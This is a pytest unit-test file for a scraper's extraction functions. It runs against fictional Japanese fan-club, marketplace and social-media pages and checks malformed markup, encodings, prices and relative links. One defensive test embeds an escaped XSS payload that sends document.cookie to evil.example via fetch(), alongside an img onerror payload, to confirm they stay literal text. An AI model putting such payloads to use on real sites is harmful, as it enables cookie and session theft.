"""Unit tests for spiders.extract: profile field specs evaluated against HTML and JSON pages.

The pages are small fictional documents shaped like the bundled demo profiles expect.
"""

from __future__ import annotations

import re
from decimal import Decimal
from typing import Any
from urllib.parse import urlsplit

import pytest
from parsel import Selector
from scrapy.http import HtmlResponse

from spiders.extract import extract_block, extract_field, extract_many, repeated_blocks
from spiders.prices import parse_price
from spiders.profile import FieldSpec, Profile, load_profile

BASE = "http://fanclub.example"
VARS = {"MIMAMORI_DEMO_URL": BASE}


@pytest.fixture(scope="module")
def fanclub() -> Profile:
    return load_profile("demo-fanclub", VARS)


@pytest.fixture(scope="module")
def market() -> Profile:
    return load_profile("demo-market", VARS)


@pytest.fixture(scope="module")
def social() -> Profile:
    return load_profile("demo-social", VARS)


@pytest.fixture(scope="module")
def social_api() -> Profile:
    return load_profile("demo-social-api", VARS)


def groups_for(profile: Profile, url: str) -> dict[str, str]:
    """The named groups of the link rule matching the URL, as the spider computes them."""
    rule = profile.rule_for(url)
    assert rule is not None, url
    parts = urlsplit(url)
    match = re.search(rule.pattern, parts.path + ("?" + parts.query if parts.query else ""))
    assert match is not None
    return {k: v for k, v in match.groupdict().items() if v is not None}


def account_fields(profile: Profile, url: str, sel: Selector) -> dict[str, Any]:
    spec = profile.account
    assert spec is not None
    kw: dict[str, Any] = {"page_url": url, "sel": sel, "url_groups": groups_for(profile, url)}
    return {
        "key": extract_field(spec.key, **kw),
        "handle": extract_field(spec.handle, **kw),
        "display_name": extract_field(spec.display_name, **kw),
        "bio": extract_field(spec.bio, **kw),
        "links": extract_many(spec.links, **kw),
        "avatar": extract_field(spec.avatar, **kw),
    }


def fanclub_creator_page(*, bio_html: str, name: str = "星野 みらい", plans: str = "") -> str:
    return (
        "<html><head><meta charset='utf-8'><title>creator</title></head><body><main>"
        '<section class="fc-creator" data-creator-id="c-1001">'
        f'<h1 class="fc-creator__name">{name}</h1>'
        '<p class="fc-creator__handle">@mirai.hoshino_01</p>'
        f"{bio_html}"
        '<ul class="fc-creator__links">'
        '<li><a class="fc-link" href="/fanclub/go/1">site</a></li>'
        '<li><a class="fc-link" href="https://other.example/mirai">other</a></li>'
        '<li><a class="fc-link" href="">empty</a></li>'
        '<li><a class="nope" href="/not-a-profile-link">skip</a></li>'
        "</ul></section>"
        f'<section class="fc-plans">{plans}</section>'
        "</main></body></html>"
    )


PLANS = (
    '<div class="fc-plan"><h3 class="fc-plan__name">ライト</h3>'
    '<p class="fc-plan__price">月額 500円</p><p class="fc-plan__desc">日記と\n 写真</p></div>'
    '<div class="fc-plan"><h3 class="fc-plan__name"> スタンダード </h3>'
    '<p class="fc-plan__price">￥１，９８０／月</p></div>'
    '<div class="fc-plan"><h3 class="fc-plan__name">特典</h3>'
    '<p class="fc-plan__price">無料</p><p class="fc-plan__desc">誰でも</p></div>'
)
CREATOR_URL = f"{BASE}/fanclub/creators/mirai.hoshino_01"


# -- a full account page through a bundled profile ------------------------------------------


def test_fanclub_account_page(fanclub: Profile) -> None:
    html = fanclub_creator_page(
        bio_html='<div class="fc-creator__bio"><p>毎週 金曜に<br>更新します。</p></div>',
        plans=PLANS,
    )
    fields = account_fields(fanclub, CREATOR_URL, Selector(text=html))
    assert fields == {
        "key": "c-1001",
        "handle": "mirai.hoshino_01",  # the profile's regex drops the "@"
        "display_name": "星野 みらい",
        "bio": "毎週 金曜に 更新します。",  # <br> becomes a space, not glued text
        "links": [f"{BASE}/fanclub/go/1", "https://other.example/mirai"],
        "avatar": None,  # the profile has no avatar spec
    }


def test_fanclub_plans_are_blocks_with_their_own_fields(fanclub: Profile) -> None:
    spec = fanclub.account.plans
    sel = Selector(text=fanclub_creator_page(bio_html="", plans=PLANS))
    blocks = repeated_blocks(spec, sel=sel)
    assert len(blocks) == 3
    plans = [extract_block(spec, b, page_url=CREATOR_URL) for b in blocks]
    assert plans == [
        {"name": "ライト", "price": "月額 500円", "description": "日記と 写真"},
        {"name": "スタンダード", "price": "￥１，９８０／月", "description": None},
        {"name": "特典", "price": "無料", "description": "誰でも"},
    ]
    assert [parse_price(p["price"]) for p in plans] == [
        (Decimal("500"), "JPY"),
        (Decimal("1980"), "JPY"),
        (None, None),
    ]


def test_account_page_without_the_profile_section(fanclub: Profile) -> None:
    sel = Selector(text="<html><body><h1>メンテナンス中</h1></body></html>")
    assert account_fields(fanclub, CREATOR_URL, sel) == {
        "key": None,
        "handle": None,
        "display_name": None,
        "bio": None,
        "links": [],
        "avatar": None,
    }
    assert repeated_blocks(fanclub.account.plans, sel=sel) == []


def test_empty_document(fanclub: Profile) -> None:
    sel = Selector(text="")
    assert extract_field(fanclub.account.handle, page_url=CREATOR_URL, sel=sel) is None
    assert extract_many(fanclub.account.links, page_url=CREATOR_URL, sel=sel) == []


def test_empty_elements_give_none_not_empty_strings(fanclub: Profile) -> None:
    html = fanclub_creator_page(bio_html='<div class="fc-creator__bio"> \n\t </div>', name="")
    fields = account_fields(fanclub, CREATOR_URL, Selector(text=html))
    assert fields["display_name"] is None
    assert fields["bio"] is None
    assert fields["handle"] == "mirai.hoshino_01"


def test_handle_regex_that_does_not_match_gives_none(fanclub: Profile) -> None:
    html = fanclub_creator_page(bio_html="").replace("@mirai.hoshino_01", "@@@ !!")
    assert (
        extract_field(fanclub.account.handle, page_url=CREATOR_URL, sel=Selector(text=html)) is None
    )


# -- malformed and hostile markup --------------------------------------------------------


def test_malformed_bio_markup_is_recovered(fanclub: Profile) -> None:
    # Unclosed <p>/<b> and stray closing tags, as the demo's broken creator page serves them.
    html = fanclub_creator_page(
        bio_html='<div class="fc-creator__bio"><p><b>壊れた<br>マークアップ</div></div></span>'
    )
    fields = account_fields(fanclub, CREATOR_URL, Selector(text=html))
    assert fields["bio"] == "壊れた マークアップ"
    assert fields["key"] == "c-1001"
    assert fields["links"] == [f"{BASE}/fanclub/go/1", "https://other.example/mirai"]


def test_truncated_page_still_yields_what_arrived(fanclub: Profile) -> None:
    html = fanclub_creator_page(bio_html='<div class="fc-creator__bio">途中まで', plans=PLANS)
    cut = html[: html.index("<ul")]
    fields = account_fields(fanclub, CREATOR_URL, Selector(text=cut))
    assert fields["key"] == "c-1001"
    assert fields["handle"] == "mirai.hoshino_01"
    assert fields["bio"] == "途中まで"
    assert fields["links"] == []


def test_escaped_script_in_a_bio_is_kept_as_literal_text(fanclub: Profile) -> None:
    bio = (
        '<div class="fc-creator__bio">'
        "&lt;script&gt;fetch('https://evil.example/?c='+document.cookie)&lt;/script&gt;"
        " &lt;img src=x onerror=alert(1)&gt;</div>"
    )
    fields = account_fields(fanclub, CREATOR_URL, Selector(text=fanclub_creator_page(bio_html=bio)))
    assert fields["bio"] == (
        "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
        " <img src=x onerror=alert(1)>"
    )


def test_script_element_text_is_returned_as_a_string() -> None:
    sel = Selector(text="<p class='t'>x</p><script>var a = '</p>'; alert(\"<b>1</b>\");</script>")
    spec = FieldSpec(css="script::text")
    assert extract_field(spec, page_url=BASE, sel=sel) == "var a = '</p>'; alert(\"<b>1</b>\");"
    assert extract_field(FieldSpec(css="p.t", text=True), page_url=BASE, sel=sel) == "x"


def test_without_text_the_element_markup_is_returned() -> None:
    sel = Selector(text="<div class='b'> <p>a &amp; b</p> </div>")
    assert extract_field(FieldSpec(css="div.b"), page_url=BASE, sel=sel) == (
        '<div class="b"> <p>a &amp; b</p> </div>'
    )
    assert extract_field(FieldSpec(css="div.b", text=True), page_url=BASE, sel=sel) == "a & b"


def test_whitespace_is_normalised_including_full_width_spaces() -> None:
    sel = Selector(text="<h1>\n  星野\u3000\u3000みらい\t\xa0 公式 \r\n</h1>")
    assert extract_field(FieldSpec(css="h1", text=True), page_url=BASE, sel=sel) == (
        "星野 みらい 公式"
    )


def test_very_long_text_is_kept_whole() -> None:
    chunk = "長文テスト" * 20 + "\n\n   "
    sel = Selector(text=f"<div class='bio'>{chunk * 5000}</div>")
    value = extract_field(FieldSpec(css="div.bio", text=True), page_url=BASE, sel=sel)
    assert value == " ".join(["長文テスト" * 20] * 5000)
    assert len(value) == 100 * 5000 + 4999


# -- encodings (decoded by the response, then extracted) ----------------------------------


def test_shift_jis_page_declared_in_meta(fanclub: Profile) -> None:
    html = fanclub_creator_page(
        bio_html='<div class="fc-creator__bio">月額\\1,980で配信中～</div>', name="星野 みらい①"
    ).replace("charset='utf-8'", "charset='Shift_JIS'")
    response = HtmlResponse(CREATOR_URL, body=html.encode("cp932"))
    fields = account_fields(fanclub, CREATOR_URL, response.selector)
    assert fields["display_name"] == "星野 みらい①"
    # 0x5C, the yen sign in Shift_JIS, comes through as a backslash that parse_price reads as yen.
    assert fields["bio"] == "月額\\1,980で配信中～"
    assert parse_price(fields["bio"]) == (Decimal("1980"), "JPY")


def test_euc_jp_post_page_declared_in_http_equiv(fanclub: Profile) -> None:
    url = f"{BASE}/fanclub/posts/77"
    html = (
        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=EUC-JP">'
        '</head><body><article class="fc-post-detail" data-post-id="77" data-creator-id="c-1001">'
        '<h1 class="fc-post-detail__title">新作のお知らせ</h1>'
        '<div class="fc-post-detail__body"><p>ご支援ありがとうございます。</p><p>次回もお楽しみに</p></div>'
        "</article></body></html>"
    )
    response = HtmlResponse(url, body=html.encode("euc_jp"))
    spec = fanclub.post
    kw = {"page_url": url, "sel": response.selector}
    assert extract_field(spec.title, **kw) == "新作のお知らせ"
    assert extract_field(spec.text, **kw) == "ご支援ありがとうございます。 次回もお楽しみに"


def test_charset_from_the_http_header() -> None:
    body = "<p class='n'>ファンクラブ限定</p>".encode("shift_jis")
    response = HtmlResponse(
        BASE, body=body, headers={"Content-Type": "text/html; charset=Shift_JIS"}
    )
    spec = FieldSpec(css="p.n::text")
    assert extract_field(spec, page_url=BASE, sel=response.selector) == "ファンクラブ限定"


# -- post pages ----------------------------------------------------------------------


def test_fanclub_post_page(fanclub: Profile) -> None:
    url = f"{BASE}/fanclub/posts/77"
    html = (
        '<article class="fc-post-detail" data-post-id="77" data-creator-id="c-1001">'
        '<h1 class="fc-post-detail__title">タイトル</h1>'
        '<a class="fc-post-detail__creator" href="/fanclub/creators/mirai.hoshino_01">星野</a>'
        '<time class="fc-post-detail__date" datetime="2024-05-01T20:00:00+09:00">5/1</time>'
        '<div class="fc-post-detail__body"><p>一行目</p><p>二行目</p></div>'
        '<div class="fc-post-detail__media">'
        '<img class="fc-post-detail__image" src="/fanclub/media/p77-1.jpg">'
        '<img class="fc-post-detail__image" src="media/p77-2.jpg">'
        '<img class="other" src="/ad.png"></div></article>'
    )
    spec = fanclub.post
    kw = {"page_url": url, "sel": Selector(text=html)}
    assert extract_field(spec.key, **kw) == "77"
    assert extract_field(spec.account_key, **kw) == "c-1001"
    assert extract_field(spec.account_url, **kw) == CREATOR_URL
    assert extract_field(spec.title, **kw) == "タイトル"
    assert extract_field(spec.text, **kw) == "一行目 二行目"
    assert extract_field(spec.posted_at, **kw) == "2024-05-01T20:00:00+09:00"
    assert extract_many(spec.media, **kw) == [
        f"{BASE}/fanclub/media/p77-1.jpg",
        f"{BASE}/fanclub/posts/media/p77-2.jpg",
    ]
    assert extract_field(spec.price, **kw) is None  # not in this profile


def test_market_item_with_options_and_price(market: Profile) -> None:
    url = f"{BASE}/market/items/9"
    html = (
        '<div class="mk-item" data-item-id="9"><h1 class="mk-item__title">似顔絵 依頼</h1>'
        '<a class="mk-item__seller-link" data-seller-id="314" href="/market/sellers/314">s</a>'
        '<span class="mk-item__price-text">¥3,000〜</span>'
        '<table><tr class="mk-option"><td>背景</td><td>+¥1,000</td></tr>'
        '<tr class="mk-option"><td>特急</td>\n<td>+¥2,000</td></tr></table></div>'
    )
    spec = market.post
    kw = {"page_url": url, "sel": Selector(text=html)}
    assert extract_field(spec.key, **kw) == "9"
    assert extract_field(spec.account_key, **kw) == "314"
    assert extract_field(spec.account_url, **kw) == f"{BASE}/market/sellers/314"
    assert extract_field(spec.text, **kw) is None
    assert extract_many(spec.extra_text, **kw) == ["背景 +¥1,000", "特急 +¥2,000"]
    price = extract_field(spec.price, **kw)
    assert price == "¥3,000〜"
    assert parse_price(price) == (Decimal("3000"), "JPY")


def test_social_posts_are_read_relative_to_each_block(social: Profile) -> None:
    url = f"{BASE}/social/@aoi_test"
    html = (
        '<section class="sc-profile" data-user-id="u-5" data-handle="aoi_test">'
        '<h1 class="sc-profile__name">あおい</h1></section><ul>'
        '<li class="sc-post" data-post-id="p1"><a class="sc-post__permalink" href="/social/p/p1">#</a>'
        '<p class="sc-post__text">おはよう</p><img class="sc-post__image" src="/m/1.jpg">'
        '<img class="sc-post__image" src="/m/2.jpg"></li>'
        '<li class="sc-post" data-post-id="p2"><p class="sc-post__text">画像なし</p></li>'
        "</ul>"
    )
    spec = social.account.posts
    blocks = repeated_blocks(spec, sel=Selector(text=html))
    posts = [extract_block(spec, b, page_url=url) for b in blocks]
    assert posts == [
        {
            "key": "p1",
            "url": f"{BASE}/social/p/p1",
            "text": "おはよう",
            "posted_at": None,
            "media": [f"{BASE}/m/1.jpg", f"{BASE}/m/2.jpg"],
        },
        {"key": "p2", "url": None, "text": "画像なし", "posted_at": None, "media": []},
    ]
    assert extract_field(social.account.key, page_url=url, sel=Selector(text=html)) == "u-5"


def test_from_url_with_the_profile_rule(fanclub: Profile) -> None:
    groups = groups_for(fanclub, CREATOR_URL)
    assert groups == {"handle": "mirai.hoshino_01"}
    spec = FieldSpec(from_url="handle")
    assert extract_field(spec, page_url=CREATOR_URL, url_groups=groups) == "mirai.hoshino_01"
